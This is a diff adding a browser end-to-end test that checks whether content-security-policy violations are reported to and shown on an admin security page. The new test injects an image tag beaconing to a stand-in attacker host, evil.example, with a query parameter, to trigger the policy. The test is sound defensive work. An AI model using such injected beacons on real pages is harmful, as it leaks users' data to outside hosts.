@@ -63,6 +63,23 @@ test('chooses by kind, and finds nothing where nothing was', async ({ page, cont
   await expect(page.getByRole('combobox', { name: 'Time' })).toHaveValue('10080')
 })
 
+test('what a page tries and may not is reported by the browser', async ({ page, context, site, complaints }) => {
+  complaints.wanted = /evil\.example/
+  await page.goto('/support')
+  await page.evaluate(() => {
+    document.body.append(Object.assign(new Image(), { src: 'https://evil.example/pixel.png?who=me' }))
+  })
+  await signIn(context, site)
+  await expect(async () => {
+    await page.goto('/admin/security?type=csp_violation')
+    await expect(table(page)).toContainText('Content policy violation', { timeout: 500 })
+  }).toPass()
+  await page.getByText('Details').first().click()
+  await expect(table(page)).toContainText('https://evil.example')
+  await expect(table(page)).toContainText('Reported by a browser; anybody can claim this.')
+  await expect(table(page)).not.toContainText('who=me')
+})
+
 test('ten grave events within an hour are an alert', async ({ page, context, site }) => {
   await signIn(context, site)
   await knock(site, 10)
